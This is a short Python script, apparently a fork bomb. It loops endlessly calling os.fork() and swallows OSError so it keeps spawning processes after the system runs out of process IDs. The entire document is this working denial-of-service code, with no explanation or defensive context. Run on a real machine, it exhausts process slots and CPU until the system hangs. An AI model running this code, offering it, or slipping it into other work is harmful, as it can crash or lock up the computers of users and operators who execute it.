import contextlib
import os

while True:
    with contextlib.suppress(OSError):  # out of pids: try again
        os.fork()
